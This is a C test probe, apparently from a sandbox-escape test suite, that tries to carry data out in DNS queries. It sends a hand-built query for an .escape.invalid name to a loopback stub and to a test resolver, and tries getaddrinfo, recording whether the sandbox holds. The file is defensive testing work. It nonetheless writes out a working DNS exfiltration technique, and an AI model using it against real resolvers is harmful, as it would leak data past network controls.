/*
 * dns_exfil: carry data out in DNS queries: resolve a name that encodes
 * data through the system resolver, and send a query straight to
 * 127.0.0.53:53 (systemd-resolved's stub, where the test listens in its own
 * network namespace) and to a resolver the test runs on the host's
 * loopback (resolver=127.0.0.1:PORT). The test records every query its
 * listeners receive and checks that none came from the sandbox.
 *
 * Modelled on Alex Birsan's 2021 "dependency confusion" research, whose
 * packages reported home through DNS queries from install scripts, and on
 * the DNS tunnelling that npm malware has used since; DESIGN.md's DNS stub
 * answers only allowed names for this reason.
 *
 * Arguments: stub=ADDR:PORT resolver=ADDR:PORT [label=...].
 */
#include "net_util.h"

#include <netdb.h>

/* A DNS query for "<label>-<probe>.escape.invalid", type A. */
static size_t make_query(unsigned char *q, size_t cap) {
  char name[128];
  snprintf(name, sizeof name, "%s-%s.escape.invalid", arg("label") ? arg("label") : "unlabelled", escape_probe);
  static const unsigned char header[] = {0x13, 0x37, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
  size_t n = sizeof header;
  memcpy(q, header, n);
  for (char *part = strtok(name, "."); part && n + strlen(part) + 8 < cap; part = strtok(NULL, ".")) {
    q[n++] = (unsigned char)strlen(part);
    memcpy(q + n, part, strlen(part));
    n += strlen(part);
  }
  q[n++] = 0;
  q[n++] = 0, q[n++] = 1; /* A */
  q[n++] = 0, q[n++] = 1; /* IN */
  return n;
}

int main(int argc, char **argv) {
  escape_init("dns_exfil", argc, argv);
  unsigned char query[256];
  size_t size = make_query(query, sizeof query);
  udp_attempt("stub-127.0.0.53", need_arg("stub"), query, size);
  udp_attempt("host-resolver", need_arg("resolver"), query, size);
  tcp_attempt("stub-127.0.0.53-tcp", need_arg("stub"));

  char name[128];
  snprintf(name, sizeof name, "%s-getaddrinfo.escape.invalid", arg("label") ? arg("label") : "unlabelled");
  struct addrinfo *res = NULL;
  struct addrinfo hints = {.ai_socktype = SOCK_DGRAM};
  int rc = getaddrinfo(name, "53", &hints, &res);
  if (rc == 0) {
    escaped("getaddrinfo", "%s resolved", name);
    freeaddrinfo(res);
  } else {
    held("getaddrinfo", "%s: %s", name, gai_strerror(rc));
  }
  return 0;
}
